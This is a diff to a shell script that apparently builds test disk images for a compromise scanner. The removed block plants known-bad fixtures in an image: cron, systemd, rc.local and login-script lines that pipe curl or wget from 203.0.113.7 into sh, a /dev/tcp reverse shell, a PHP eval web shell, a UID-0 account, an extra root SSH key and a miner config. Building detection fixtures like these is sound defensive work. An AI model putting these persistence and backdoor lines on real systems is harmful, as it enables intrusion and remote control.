@@ -25,6 +25,7 @@ if [ "$#" -ne 1 ]; then
   echo "usage: $0 OUTDIR" >&2
   exit 2
 fi
+here=$(cd "$(dirname "$0")" && pwd)
 out=$1
 mkdir -p "$out"
 out=$(cd "$out" && pwd)
@@ -211,140 +212,7 @@ chmod 0600 home/admin/.ssh/authorized_keys
 # images carry.
 cd "$out"
 cp -a "$clean" "$planted"
-cd "$planted"
-expect=$out/planted.expect
-: > "$expect"
-plant () { printf '%s\t%s\t%s\t%s\t%s\n' "$@" >> "$expect"; }
-
-wallet=4Bvmscan$(printf 'TestWa11etNotRea1DoNotSend%.0s' 1 2 3)TestWa11e
-miner_dir=var/tmp/.X11-unix
-mkdir -p "$miner_dir"
-cp /bin/true "$miner_dir/kworker"
-printf '\nxmrig/6.20.0 randomx stratum+tcp:// --donate-level %s\n' "$wallet" \
-  >> "$miner_dir/kworker"
-chmod 0755 "$miner_dir/kworker"
-cat > "$miner_dir/config.json" <<JS
-{
-  "autosave": true,
-  "donate-level": 1,
-  "cpu": { "enabled": true, "max-threads-hint": 75 },
-  "pools": [ { "url": "stratum+tcp://pool.example.net:3333",
-               "user": "$wallet", "pass": "x", "keepalive": true } ]
-}
-JS
-plant cryptominer high "/$miner_dir/config.json" "stratum+tcp://pool.example.net:3333" "miner config with pool and wallet"
-plant masquerading high "/$miner_dir/kworker" "" "ELF named like a kernel thread in a hidden directory under /var/tmp"
-
-printf 'SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/up.sh | sh\n' \
-  > etc/cron.d/sysupdate
-plant persistence high /etc/cron.d/sysupdate "curl -fsSL http://203.0.113.7/up.sh | sh" "cron job that downloads and runs a script"
-printf '@reboot /%s/kworker -c /%s/config.json >/dev/null 2>&1\n' "$miner_dir" "$miner_dir" \
-  > var/spool/cron/crontabs/root
-chmod 0600 var/spool/cron/crontabs/root
-plant persistence high /var/spool/cron/crontabs/root "kworker" "root crontab starts the miner at boot"
-
-mkdir -p usr/local/bin
-cp /bin/true usr/local/bin/dbus-helper
-printf '\nstratum+tcp://pool.example.net:3333\n' >> usr/local/bin/dbus-helper
-cat > etc/systemd/system/dbus-helper.service <<'UNIT'
-[Unit]
-Description=D-Bus helper
-After=network-online.target
-
-[Service]
-ExecStart=/bin/sh -c 'curl -s http://203.0.113.7/k | bash; exec /usr/local/bin/dbus-helper'
-Restart=always
-
-[Install]
-WantedBy=multi-user.target
-UNIT
-ln -s /etc/systemd/system/dbus-helper.service \
-  etc/systemd/system/multi-user.target.wants/dbus-helper.service
-plant persistence high /etc/systemd/system/dbus-helper.service "curl -s http://203.0.113.7/k | bash" "enabled systemd service that downloads and runs"
-
-cat > etc/rc.local <<'RCL'
-#!/bin/sh -e
-bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &
-exit 0
-RCL
-chmod 0755 etc/rc.local
-plant persistence high /etc/rc.local "/dev/tcp/203.0.113.7/4444" "reverse shell in rc.local"
-
-printf 'wget -q -O- http://203.0.113.7/p | sh >/dev/null 2>&1 &\n' > etc/profile.d/locale-fix.sh
-plant persistence high /etc/profile.d/locale-fix.sh "wget -q -O- http://203.0.113.7/p | sh" "login script downloads and runs"
-
-lib=usr/lib/x86_64-linux-gnu
-cp "$lib/libmd.so.0" "$lib/libns2.so"
-printf '\nreaddir\n' >> "$lib/libns2.so"
-echo "/$lib/libns2.so" > etc/ld.so.preload
-plant persistence high /etc/ld.so.preload "/$lib/libns2.so" "library preloaded into every process"
-
-cp "$lib/security/pam_permit.so" "$lib/security/pam_sys.so"
-sed -i '1i auth sufficient pam_sys.so' etc/pam.d/common-auth
-plant persistence high "/$lib/security/pam_sys.so" "" "PAM module no package owns"
-
-printf 'sysadm:x:0:0::/root:/bin/bash\n' >> etc/passwd
-printf 'sysadm::19700:0:99999:7:::\n' >> etc/shadow
-plant access critical "" "sysadm" "second account with UID 0"
-
-printf 'backup ALL=(ALL) NOPASSWD: ALL\n' > etc/sudoers.d/90-backup
-chmod 0440 etc/sudoers.d/90-backup
-plant access high /etc/sudoers.d/90-backup "NOPASSWD" "password-less sudo for all commands"
-
-ssh-keygen -q -t ed25519 -N '' -C 'attacker@203.0.113.7' -f "$out/attacker" 
-mkdir -p root/.ssh
-chmod 0700 root/.ssh
-cp "$out/attacker.pub" root/.ssh/authorized_keys
-fp=$(ssh-keygen -lf "$out/attacker.pub" | awk '{print $2}')
-plant access high /root/.ssh/authorized_keys "$fp" "extra SSH key for root"
-cat "$out/attacker.pub" >> home/admin/.ssh/authorized_keys
-plant access medium /home/admin/.ssh/authorized_keys "$fp" "SSH key baked into a published image"
-
-printf 'PermitRootLogin yes\nPasswordAuthentication yes\n' > etc/ssh/sshd_config.d/00-access.conf
-plant access medium /etc/ssh/sshd_config.d/00-access.conf "PermitRootLogin yes" "root may log in with a password"
-
-mkdir -p home/admin/.aws
-akid=AKIAIOSFODNN7EXAMPLE
-secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
-printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' \
-  "$akid" "$secret" > home/admin/.aws/credentials
-plant secret high /home/admin/.aws/credentials "" "AWS access key left in the image"
-ssh-keygen -q -t ed25519 -N '' -C 'deploy' -f home/admin/.ssh/id_ed25519
-plant secret high /home/admin/.ssh/id_ed25519 "" "unencrypted SSH private key left in the image"
-token=ghp_vmscanTestTokenNotReal0123456789abcd
-printf 'ls\ngit clone https://admin:%s@github.com/example/app\n' "$token" \
-  > home/admin/.bash_history
-plant secret medium /home/admin/.bash_history "" "token in a shell history"
-chown -R 1000:1000 home/admin
-printf '%s\n%s\n%s\n' "$secret" "$token" \
-  "$(sed -n 2p home/admin/.ssh/id_ed25519)" > "$out/secrets.txt"
-
-cp bin/bash var/tmp/.bash
-chmod 4755 var/tmp/.bash
-plant permissions critical /var/tmp/.bash "" "setuid shell in /var/tmp"
-cp /bin/true usr/local/bin/pyhelper
-setcap cap_setuid=ep usr/local/bin/pyhelper
-plant permissions high /usr/local/bin/pyhelper "cap_setuid" "capability to change UID on an unpackaged file"
-
-cp /bin/true tmp/invoice.pdf
-chmod 0755 tmp/invoice.pdf
-plant masquerading high /tmp/invoice.pdf "" "executable with a document's extension"
-
-printf '\n# patched\n' >> usr/bin/id
-plant package high /usr/bin/id "" "packaged binary that differs from the package"
-cp /bin/true usr/bin/systemd-journal-helper
-plant package medium /usr/bin/systemd-journal-helper "" "executable in /usr/bin that no package owns"
-
-mkdir -p var/www/html/uploads
-printf '<?php @eval(base64_decode($_POST["c"])); ?>\n' > var/www/html/uploads/img.php
-plant malware high /var/www/html/uploads/img.php "" "PHP web shell"
-
-sha=$(sha256sum "$miner_dir/kworker" | awk '{print $1}')
-printf '# test feed\nsha256:%s miner-kworker\npath:/var/tmp/**/config.json miner-config\n' \
-  "$sha" > "$out/planted.ioc"
-plant ioc high "/$miner_dir/kworker" "$sha" "IOC list hash"
-plant ioc high "/$miner_dir/config.json" "/var/tmp/**/config.json" "IOC list path pattern"
-
+"$here/plant-payloads.sh" "$planted" "$out"
 # ------------------------------------------------------------------
 cd "$out"
 mkfs () {
@@ -360,4 +228,4 @@ say "making the planted filesystem"
 mkfs "$planted" "$out/planted.raw"
 qemu-img convert -f raw -O qcow2 "$out/planted.raw" "$out/planted.qcow2"
 rm -f "$out/planted.raw"
-say "done: $(wc -l < "$expect") planted items"
+say "done: $(wc -l < "$out/planted.expect") planted items"
